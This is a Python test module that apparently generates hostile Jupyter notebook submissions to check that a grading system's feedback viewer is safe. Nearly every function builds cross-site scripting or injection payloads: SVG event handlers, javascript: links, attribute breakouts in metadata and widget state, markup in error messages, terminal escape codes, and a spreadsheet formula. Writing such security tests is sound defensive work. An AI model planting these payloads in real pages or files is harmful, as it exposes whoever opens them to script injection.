"""Script in outputs, metadata and error messages, for whoever opens the feedback.

As in `scripts`, each puts `MARKER` where a browser acts on it. `mse` is honestly right.
"""

import json
from pathlib import Path

from nbformat.v4 import new_code_cell, new_output

from hostile.material import ASSIGNMENT, QUESTION, Family, Material, find, insert
from hostile.scripts import MARKER, address, script

FAMILY = Family("scripts in outputs")


def output(material: Material, folder: Path, kind: str, content: str, metadata: str = "{}") -> None:
    """Hand in a cell that displays `content` (a string, or an object written as JSON)."""
    code = (
        "from IPython.display import display\n\n"
        f"display({{{kind!r}: {content}}}, metadata={metadata}, raw=True)"
    )
    notebook = insert(material.partly("mse"), "softmax_cross_entropy", code)
    stored = new_output("display_data", data={kind: f"{MARKER} stored"})
    notebook.cells.append(new_code_cell("pass", outputs=[stored]))
    material.hand_in(folder, notebook)


@FAMILY.attack(solved=["mse"])
def drawing(material: Material, folder: Path) -> None:
    """An SVG picture with a script, a handler, a foreign object and a link."""
    run = script(material)
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script>'
        f'<a href="javascript:{run}"><text y="9">x</text></a><image href="{address(material)}"/>'
        f'<foreignObject><iframe srcdoc="<script>{run}</script>"/></foreignObject>'
        f'<animate onbegin="{run}" attributeName="x" dur="1s"/><use href="data:x,{MARKER}"/></svg>'
    )
    output(material, folder, "image/svg+xml", repr(svg))


@FAMILY.attack(solved=["mse"])
def javascript_output(material: Material, folder: Path) -> None:
    """An output that is JavaScript."""
    output(material, folder, "application/javascript", repr(script(material)))


@FAMILY.attack(solved=["mse"])
def markdown_and_latex_outputs(material: Material, folder: Path) -> None:
    """Outputs in Markdown and LaTeX with markup inside."""
    text = f"<script>{script(material)}</script> [x](javascript:{MARKER})"
    content = f"{text!r}, 'text/latex': {('$' + text + '$')!r}, 'text/plain': {text!r}"
    output(material, folder, "text/markdown", content)


@FAMILY.attack(solved=["mse"])
def picture_that_is_none(material: Material, folder: Path) -> None:
    """Pictures whose data and sizes end the attribute that they are put into."""
    breakout = f'"><script>{script(material)}</script><img src="'
    size = {"width": breakout, "height": breakout, "alt": breakout, "unconfined": breakout}
    metadata = repr({"image/png": size, "image/jpeg": size, "filenames": {"image/png": breakout}})
    output(material, folder, "image/png", f"{breakout!r}, 'image/jpeg': {breakout!r}", metadata)


@FAMILY.attack(solved=["mse"])
def widgets(material: Material, folder: Path) -> None:
    """A widget's view, and stored states of widgets with markup in them."""
    markup = f"<script>{script(material)}</script><img src=x onerror={MARKER}>"
    kind = "application/vnd.jupyter.widget-view+json"
    output(material, folder, kind, repr({"model_id": f'">{markup}', "version_major": 2}))
    notebook = json.loads((folder / f"{ASSIGNMENT}.ipynb").read_text())
    state = {"model_name": "HTMLModel", "state": {"value": markup, "layout": f"</script>{markup}"}}
    stored = {"version_major": 2, "version_minor": 0, "state": {f"</script>{markup}": state}}
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": stored}
    material.hand_in(folder, notebook)


@FAMILY.attack(solved=["mse"])
def charts(material: Material, folder: Path) -> None:
    """Outputs that a front end draws: Vega with a foreign source, Plotly, JSON, an own kind."""
    where = address(material)
    chart = {
        "data": {"url": where},
        "mark": "point",
        "usermeta": {"embedOptions": {"hover": where}},
    }
    content = (
        f"{chart!r}, 'application/vnd.plotly.v1+json': {{'data': [], 'layout': {{'images': "
        f"[{{'source': {where!r}}}]}}}}, 'application/json': {{'<script>': {where!r}}}, "
        f"'text/<script>{MARKER}': 'x'"
    )
    output(material, folder, "application/vnd.vegalite.v5+json", content)


@FAMILY.attack(solved=["mse"])
def streams(material: Material, folder: Path) -> None:
    """Text with markup, and with the codes by which terminals make colours and links."""
    markup = f"<script>{script(material)}</script>"
    code = f"""
import sys

for file in (sys.stdout, sys.stderr):
    print({markup!r}, file=file)
    print("\\x1b[31m{markup}\\x1b[0m \\x1b[38;2;1;2;3m<b \\x1b[1monclick={MARKER}>", file=file)
    print("\\x1b]8;;javascript:{MARKER}\\x07link\\x1b]8;;\\x07", file=file)
    print("\\x1b[2J\\x1b]0;{MARKER}\\x07", file=file)
"""
    material.hand_in(folder, insert(material.partly("mse"), "softmax_cross_entropy", code.strip()))


@FAMILY.attack(solved=["mse"])
def error_in_a_cell(material: Material, folder: Path) -> None:
    """An error whose name, message, notes and traceback are markup."""
    markup = f"<script>{script(material)}</script><img src=x onerror={MARKER}>"
    code = f"""
markup = {markup!r}
lines = [markup, "\\x1b[31m" + markup]
Error = type(markup, (Exception,), {{"_render_traceback_": lambda self: lines}})
raise Error(markup)
"""
    material.hand_in(folder, insert(material.partly("mse"), "softmax_cross_entropy", code.strip()))


@FAMILY.attack(solved=["mse"])
def error_in_a_message(material: Material, folder: Path) -> None:
    """Markup and a spreadsheet's formula in what a failed test says: names, messages, answers."""
    markup = (
        f"=HYPERLINK(1)\n  Hint: <script>{script(material)}</script><img src=x onerror={MARKER}>"
    )
    cross = f"""
def softmax_cross_entropy(logits, targets):
    raise type({markup!r}, (ValueError,), {{}})({markup!r})
"""
    verdict = f"def predict_run(curvatures, lr):\n    return -1.0, {markup!r}"
    recursive = f"""
def recursive_forecast(history, coefficients, steps):
    return 7.5


recursive_forecast.__name__ = {markup!r}
"""
    sources = {
        "softmax_cross_entropy": cross.strip(),
        "predict_run": verdict,
        "recursive_forecast": recursive.strip(),
    }
    material.hand_in(folder, material.partly("mse", **sources))


@FAMILY.attack(solved=["mse"])
def metadata(material: Material, folder: Path) -> None:
    """Markup in titles, authors, languages, kernels, tags, cell ids and attachments."""
    breakout = f'"></title><script>{script(material)}</script>'
    notebook = material.partly("mse")
    for key in ("title", "name", "description", "toc", "hide_input"):
        notebook.metadata[key] = breakout
    notebook.metadata["authors"] = [{"name": breakout, "email": breakout}]
    notebook.metadata["language_info"] = {"name": breakout, "pygments_lexer": breakout}
    notebook.metadata["kernelspec"] |= {"display_name": breakout, "language": breakout}
    for cell in notebook.cells:
        cell.metadata |= {
            "tags": [breakout],
            "name": breakout,
            "slideshow": {"slide_type": breakout},
        }
        cell.metadata["collapsed"] = cell.metadata["scrolled"] = breakout
    find(notebook, QUESTION)["attachments"] = {f"{breakout}.svg": {"image/svg+xml": breakout}}
    find(notebook, QUESTION).source = f"![{breakout}](attachment:{breakout}.svg)"
    material.hand_in(folder, notebook)


@FAMILY.attack(solved=["mse"])
def source_code(material: Material, folder: Path) -> None:
    """Code, comments and raw cells that end the element in which they are shown."""
    markup = f"</code></pre></script><script>{script(material)}</script>"
    notebook = insert(material.partly("mse"), "softmax_cross_entropy", f"# {markup}\n{markup!r}")
    insert(notebook, "softmax_cross_entropy", markup, kind="raw")
    find(notebook, "mse").source += f"\n# {markup}"
    insert(notebook, "softmax_cross_entropy", f"%%html\n{markup}")
    insert(notebook, "softmax_cross_entropy", f"%%javascript\n{script(material)}")
    for cell in notebook.cells:
        if cell.cell_type == "raw":
            cell.metadata["raw_mimetype"] = cell.metadata["format"] = "text/html"
    material.hand_in(folder, notebook)
